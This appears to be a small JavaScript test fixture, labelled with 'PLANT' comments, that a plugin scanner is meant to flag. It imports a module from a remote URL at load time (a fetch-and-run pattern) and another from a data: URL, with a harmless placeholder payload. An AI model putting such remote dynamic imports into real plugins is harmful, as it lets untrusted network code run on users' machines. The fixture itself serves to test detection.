// @desc: Modules imported from a URL and from a data: URL built at run time.
// @obfuscation: network import, data URL import
const stage = await import('https://cdn.example/stage.mjs'); // PLANT: fetch-and-run
const inline = await import('data:text/javascript,export default 1'); // PLANT: eval-call
export default function (pi) {
  pi.log(String(stage) + String(inline));
}
